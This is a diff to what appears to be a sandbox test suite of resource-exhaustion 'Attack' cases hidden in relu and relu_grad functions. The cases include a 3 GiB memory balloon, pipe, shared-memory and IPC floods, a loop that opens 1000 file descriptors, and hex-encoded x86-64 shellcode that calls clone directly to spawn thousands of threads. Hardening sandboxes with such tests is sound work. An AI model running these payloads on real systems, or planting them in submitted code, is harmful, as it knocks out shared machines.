@@ -6,12 +6,17 @@ BALLOON = """
 held = []
 
 def fill(make):
-    '''Take 3 GiB in pieces of 128 MiB, every page of them touched; done when it is all there.'''
-    for _ in range(24):
-        piece = memoryview(make(2 ** 27)).cast("B")
-        piece[::4096] = b"x" * len(piece[::4096])
-        held.append(piece)
-    return len(held)
+    '''Take 3 GiB, every page of them touched, in ever smaller pieces as the large ones are refused.'''
+    size, taken = 2 ** 30, 0
+    while taken < 3 * 2 ** 30 and size >= 2 ** 20:
+        try:
+            piece = memoryview(make(size)).cast("B")
+            piece[::4096] = b"x" * len(piece[::4096])
+            held.append(piece)
+            taken += size
+        except (MemoryError, OSError, RuntimeError):
+            size, piece = size // 2, None
+    return taken
 """
 """Takes memory."""
 
@@ -25,7 +30,10 @@ def relu(a):
     return a
 
 def relu_grad(a):
-    return [[0] * 2 ** 24 for _ in range(24)]
+    rows = []
+    while len(rows) < 400:
+        rows.append([0] * 2 ** 20)
+    return rows
 ''',
         base=BALLOON,
     ),
@@ -36,7 +44,7 @@ def relu_grad(a):
 import numpy as np
 
 def relu(a):
-    fill(lambda n: np.empty(n, np.uint8))
+    attempt("empty", lambda: fill(lambda n: np.empty(n, np.uint8)))
     return a
 
 def relu_grad(a):
@@ -51,7 +59,7 @@ def relu_grad(a):
 import torch
 
 def to_torch(params):
-    held.extend(torch.ones(2 ** 27, dtype=torch.uint8) for _ in range(24))
+    attempt("tensors", lambda: fill(lambda n: torch.empty(n, dtype=torch.uint8).numpy()))
     return params
 
 def forward(X, params):
@@ -79,18 +87,21 @@ def by_pipe(n):
     for _ in range(n // 2 ** 20):
         fcntl.fcntl(os.pipe()[1], 1031, 2 ** 20)
 
-attempt("shared", lambda: fill(lambda n: mmap.mmap(-1, n, mmap.MAP_SHARED)))
-held.clear()
-attempt("file", lambda: fill(by_file))
-held.clear()
-attempt("written file", lambda: [os.write(os.memfd_create(WORLD["token"]), bytes(2 ** 27)) for _ in range(24)])
 attempt("pipes", lambda: by_pipe(2 ** 28))
 attempt("segment", lambda: syscall("shmget", 0, 2 ** 20, 0o1600))
 attempt("queue", lambda: syscall("msgget", 0, 0o1600))
 attempt("semaphores", lambda: syscall("semget", 0, 1, 0o1600))
+
+def relu(a):
+    attempt("shared", lambda: fill(lambda n: mmap.mmap(-1, n, mmap.MAP_SHARED)))
+    return a
+
+def relu_grad(a):
+    attempt("written file", lambda: [os.write(os.memfd_create(WORLD["token"]), bytes(2 ** 27)) for _ in range(24)])
+    attempt("file", lambda: fill(by_file))
+    return a
 ''',
-        at_most=10,
-        base=RIGHT + BALLOON,
+        base=BALLOON,
     ),
     Attack(
         "memory-of-the-stack",
@@ -198,6 +209,27 @@ def relu_grad(a):
 ''',
     ),
     Attack(
+        "threads-past-the-library",
+        "all threads that there can be, by a system call that takes no memory for a stack",
+        '''
+import ctypes, mmap, time
+
+CLONE = bytes.fromhex(
+    "4154554989f489fd" "b838000000bf000f05004c89e631d24d31d24d31c00f05" "85c0740c7804ffcd75df"
+    "89e85d415cc3" "b8230000004c89e731f60f05ebf2"
+)
+
+def relu(a):
+    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    memory.write(CLONE)
+    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
+    minute = (ctypes.c_long * 2)(60, 0)
+    left = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_void_p)(address)(4000, ctypes.addressof(minute))
+    time.sleep(0.5)
+    return a
+''',
+    ),
+    Attack(
         "descriptors-by-the-thousand",
         "all descriptors that there can be",
         '''
@@ -218,8 +250,7 @@ def relu(a):
 held = []
 
 def relu_grad(a):
-    for number in range(3, 70):
-        os.dup2(pipe(), number)
+    attempt("all numbers", lambda: [os.dup2(pipe(), number) for number in range(3, 1000)])
     return a
 ''',
     ),
